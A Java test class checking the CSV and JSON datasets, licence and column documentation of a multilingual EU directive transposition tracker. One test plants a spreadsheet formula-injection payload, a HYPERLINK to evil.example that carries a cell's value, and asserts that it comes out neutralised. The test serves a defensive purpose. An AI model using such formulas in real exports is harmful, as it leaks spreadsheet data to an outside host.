package org.vigie.advocacy.tracker.web;

import java.io.StringReader;
import java.net.http.HttpResponse;
import java.time.Instant;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;

import org.apache.commons.csv.CSVRecord;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.Test;
import org.vigie.SiteClient;
import org.vigie.advocacy.AdvocacyTest;
import org.vigie.advocacy.tracker.Status;
import org.vigie.advocacy.tracker.TrackerCsv;
import org.vigie.advocacy.tracker.TrackerStore;
import org.vigie.site.Language;
import tools.jackson.databind.json.JsonMapper;

import org.springframework.beans.factory.annotation.Autowired;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The dataset beside the page: the CSV (one row per state and provision, UTF-8, a file
 * name with the instrument and the day, formulas neutralised, the demo flagged) and the
 * JSON (the same rows, the licence, the columns described, the demo notice) at the three
 * languages' addresses, and the page documenting them.
 */
@AdvocacyTest
class TrackerDatasetTest {

	@Autowired
	private SiteClient site;

	@Autowired
	private TrackerStore tracker;

	@Test
	void servesTheWholeMatrixAsCsvAtEachLanguagesAddress() throws Exception {
		for (String path : List.of("/fr/plaidoyer/transposition.csv", "/nl/beleidswerk/omzetting.csv",
				"/en/advocacy/transposition.csv")) {
			HttpResponse<String> csv = this.site.get(path);
			assertThat(csv.statusCode()).isEqualTo(200);
			assertThat(csv.headers().firstValue("Content-Type")).hasValue("text/csv;charset=UTF-8");
			assertThat(csv.headers().firstValue("Content-Disposition"))
				.hasValueSatisfying((value) -> assertThat(value).startsWith("attachment")
					.contains("2011-93-eu", this.tracker.today().toString(), ".csv"));
			List<CSVRecord> rows = records(csv.body());
			assertThat(rows).hasSize(27 * 14);
			assertThat(rows.get(0).toMap().keySet()).containsExactlyInAnyOrderElementsOf(TrackerCsv.COLUMNS);
			assertThat(rows).allSatisfy((row) -> assertThat(row.get("fictitious_example")).isEqualTo("true"));
			assertThat(rows).extracting((row) -> row.get("state")).contains("BE", "GR", "SE").doesNotContain("EL");
		}
	}

	@Test
	@SuppressWarnings("unchecked")
	void servesTheSameRowsAsJsonWithTheirMetadata() {
		HttpResponse<String> response = this.site.get("/nl/beleidswerk/omzetting.json");
		assertThat(response.headers().firstValue("Content-Type"))
			.hasValueSatisfying((value) -> assertThat(value).startsWith("application/json"));
		Map<String, Object> json = JsonMapper.builder().build().readValue(response.body(), Map.class);
		assertThat(json.get("licence")).isEqualTo("CC-BY-4.0");
		assertThat(json.get("fictitiousExample")).isEqualTo(true);
		assertThat((String) json.get("notice")).contains("Fictief voorbeeld");
		assertThat(json.get("asOf")).isEqualTo(this.tracker.today().toString());
		assertThat((Map<String, Object>) json.get("instrument")).containsEntry("celex", "32011L0093");
		List<Map<String, Object>> columns = (List<Map<String, Object>>) json.get("columns");
		assertThat(columns).extracting((column) -> column.get("name")).containsExactlyElementsOf(TrackerCsv.COLUMNS);
		assertThat(columns).allSatisfy((column) -> assertThat((String) column.get("description")).isNotBlank());
		List<Map<String, Object>> rows = (List<Map<String, Object>>) json.get("rows");
		assertThat(rows).hasSize(27 * 14);
		assertThat(rows.get(0).keySet()).containsExactlyElementsOf(TrackerCsv.COLUMNS);
		assertThat(this.site.get("/en/advocacy/transposition.json").body()).contains("\"notice\":\"Fictitious example");
	}

	@Test
	void neutralisesFormulasInTheCsv() throws Exception {
		TestInstrument own = TestInstrument.create(this.tracker);
		String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
		this.tracker.record(TestInstrument.draft(own.first(), "IE", Status.PARTLY, LocalDate.of(2022, 3, 1), formula),
				"staff@example.org", Instant.now());
		HttpResponse<String> csv = this.site.get("/en/advocacy/transposition.csv?instrument=" + own.code());
		CSVRecord ireland = records(csv.body()).stream()
			.filter((row) -> row.get("state").equals("IE") && row.get("article").equals("1"))
			.findFirst()
			.orElseThrow();
		assertThat(ireland.get("note_en")).isEqualTo("'" + formula);
		assertThat(ireland.get("fictitious_example")).isEqualTo("false");
		assertThat(records(csv.body())).allSatisfy((row) -> row.forEach(
				(cell) -> assertThat(cell).as("no cell starts a formula").doesNotStartWith("=").doesNotStartWith("@")));
		assertThat(this.site.get("/en/advocacy/transposition.json?instrument=" + own.code()).body())
			.doesNotContain("\"notice\"")
			.contains("\"fictitiousExample\":false");
	}

	@Test
	void documentsTheColumnsAndTheLicenceInEveryLanguage() {
		for (Language language : Language.all()) {
			Document page = this.site.page(TrackerAddresses.data(language));
			assertThat(page.select("[data-column]").eachAttr("data-column"))
				.containsExactlyElementsOf(TrackerCsv.COLUMNS);
			assertThat(page.select("[data-licence] a").attr("href")).isEqualTo(TrackerCsv.LICENCE_ADDRESS);
			assertThat(page.select("[data-demo-notice]")).isNotEmpty();
			assertThat(page.select("link[rel=alternate][hreflang]").eachAttr("hreflang")).contains("fr", "nl", "en");
		}
		assertThat(this.site.get("/fr/plaidoyer/transposition/donnees").statusCode()).isEqualTo(200);
		assertThat(this.site.get("/nl/beleidswerk/omzetting/gegevens").statusCode()).isEqualTo(200);
		assertThat(this.site.get("/en/advocacy/transposition/data").statusCode()).isEqualTo(200);
	}

	private static List<CSVRecord> records(String csv) throws java.io.IOException {
		return TrackerCsv.FORMAT.builder().setHeader().get().parse(new StringReader(csv)).getRecords();
	}

}
